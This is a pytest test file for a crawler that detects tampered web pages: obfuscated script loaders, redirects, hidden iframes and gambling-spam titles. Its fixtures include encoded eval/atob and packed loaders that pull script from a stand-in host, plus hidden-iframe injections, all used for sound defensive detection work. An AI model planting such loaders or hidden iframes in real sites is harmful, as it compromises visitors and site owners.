"""Addresses that scripts hold in a veiled way, and the places beside scripts where code leads away."""

from __future__ import annotations

import base64
from urllib.parse import quote

import pytest

from crawler.cms.base import Document
from crawler.extract import extract
from crawler.unveil import unveiled, veiled_addresses
from storage.models import LinkKind

FAR = "https://js.far.example.com/a.js"
CODE = f"document.write('<script src={FAR}></script>')"
NUMBERS = ",".join(str(ord(letter)) for letter in CODE)
HEX = "".join(f"\\x{ord(letter):02x}" for letter in FAR)
BASED = base64.b64encode(CODE.encode()).decode()
PERCENT = "".join(f"%{ord(letter):02x}" for letter in CODE)
PACKED = "eval(function(p,a,c,k,e,d){return p}('0.1=\"2://3.4.5.6/7.0\"',8,8,'js|src|https|js|far|example|com|a'.split('|'),0,{}))"
BADGE = quote("<script src='http://dcs.conac.cn/js/1.js'></script>")


@pytest.mark.parametrize(
    "code",
    [f"eval(String.fromCharCode({NUMBERS}))", f's.src="{HEX}"', f"eval(atob('{BASED}'))", f"eval(unescape('{PERCENT}'))", PACKED,
     's.src="ht"+"tps:/"+"/js.f"+"ar.exa"+"mple.com/a.js"', f"eval(unescape('{quote(f'eval(atob({chr(34)}{BASED}{chr(34)}))')}'))"],
)  # fmt: skip
def test_veiled_address_is_read(code: str) -> None:
    assert [url.partition("//")[2].split("/")[0] for url in veiled_addresses([code])] == [
        "js.far.example.com"
    ]


@pytest.mark.parametrize(
    "code",
    [f"s.src='{FAR}'", "var h='<div>'+'<a href=\"http://www.rongmei.com/\">融媒</a>'+'</div>'", "JSON.parse(atob('eyJhIjoxfQ=='))",
     f"document.write(unescape('{BADGE}'))", "String.fromCharCode(109,97,105,108,116,111,58,98,103,115,64,97,46,103,111,118)",
     "eval('('+data+')')", "atob('!!!!!!!!!!!!!!!!')", f"atob('{'石' * 20}')"],
)  # fmt: skip
def test_plain_address_and_harmless_code_are_none(code: str) -> None:
    assert veiled_addresses([code]) == []


def test_halves_of_characters_and_zeros_go_into_no_record() -> None:
    assert unveiled(r"s='\ud83d\ude00\ud83d\x00'") == "😀\ufffd\n"


def facts(html: str) -> dict[str, object]:
    return extract(Document("http://www.shili.gov.cn/a.html", html)).suspicion


@pytest.mark.parametrize(
    ("html", "name"),
    [("<body onload=\"location.href='http://www.far.example.com/'\">正文", "leaps_to"),
     ("<svg onload=\"location='http://www.far.example.com/'\"></svg>正文", "leaps_to"),
     ("<script>document.onclick=function(){window.open('http://www.far.example.com/')}</script>正文", "leaps_to"),
     ("<script>addEventListener('popstate',function(){location.href='http://www.far.example.com/'})</script>正文", "leaps_to"),
     ("<base href='http://www.far.example.com/'><p>正文", "base_to"),
     ("<script>document.title='\\u5f69\\u7968\\u5f00\\u5956'</script>正文", "written_title"),
     (f"<iframe src='data:text/html;base64,{BASED}'></iframe>正文", "veiled_to"),
     (f"<script>document.write(unescape('{quote(CODE)}'))</script>正文", "written_from"),
     ("<title>博彩大全网站_通知</title><p>关于停水的通知。</p>", "title_parts"),
     ("<head><title>停水通知</title><title>必威体育_官网入口</title></head><p>停水通知</p>", "title_parts"),
     ("<title>体育官方网站</title><meta name=ArticleTitle content='关于停水的通知'><p>官方体育网站停水</p>", "title_parts")],
)  # fmt: skip
def test_sign_is_noted(html: str, name: str) -> None:
    assert name in facts(html)


@pytest.mark.parametrize(
    "html",
    ["<body onload=\"MM_preloadImages('http://www.far.example.com/1.gif')\">正文", "<base href='/x/'><p>正文",
     "<img src=a.jpg onerror=\"this.src='/none.png'\">正文", "<title>关于停水的通知_石桥县</title><p>石桥县关于停水的通知。</p>",
     "<title>停水通知公告栏目</title><p>关于停水的通知。</p>",
     "<script>function go(){window.open('http://www.far.example.com/')}</script>正文",
     "<script>eval('('+x+')');if(document.referrer.indexOf('baidu')>0){i.src='/hit?u='+encodeURIComponent(location.href)}</script>正文"],
)  # fmt: skip
def test_ordinary_page_shows_no_sign(html: str) -> None:
    assert facts(html) == {}


@pytest.mark.parametrize(
    ("html", "hidden", "kind"),
    [("<a href='http://www.far.example.com/'></a>", "empty", LinkKind.ANCHOR), ("通知<a href='http://www.far.example.com/'>。</a>", "mark", LinkKind.ANCHOR),
     ("<noscript><a href='http://www.far.example.com/'>甲</a></noscript>", "noscript", LinkKind.ANCHOR),
     ("<a href='http://www.far.example.com/' class=wb></a>", "", LinkKind.ANCHOR), ("<a href='http://www.shili.gov.cn/b'></a>", "", LinkKind.ANCHOR),
     ("<a href='http://www.far.example.com/'><i></i></a>", "", LinkKind.ANCHOR), ("<object data='http://www.far.example.com/a.html' width=0 height=0></object>", "size", LinkKind.FRAME),
     ("<embed src='http://www.far.example.com/a.mp3' width=0 height=0>", "size", LinkKind.ATTACHMENT),
     ("<script>document.write('<iframe src=http://www.far.example.com/ width=0></iframe>')</script>", "size", LinkKind.FRAME),
     ("<script>var f=document.createElement('iframe');f.src='http://www.far.example.com/';f.style.display='none'</script>", "display", LinkKind.FRAME),
     ("<script>(function(){o=document.createElement('iframe');o.setAttribute('src','http://www.far.example.com/');o.setAttribute('style','height:0;width:0')})()</script>", "size", LinkKind.FRAME)],
)  # fmt: skip
def test_link_out_of_sight_says_how(html: str, hidden: str, kind: LinkKind) -> None:
    (link,) = extract(Document("http://www.shili.gov.cn/a.html", f"<p>正文</p>{html}")).links
    assert (link.hidden, link.kind) == (hidden, kind)
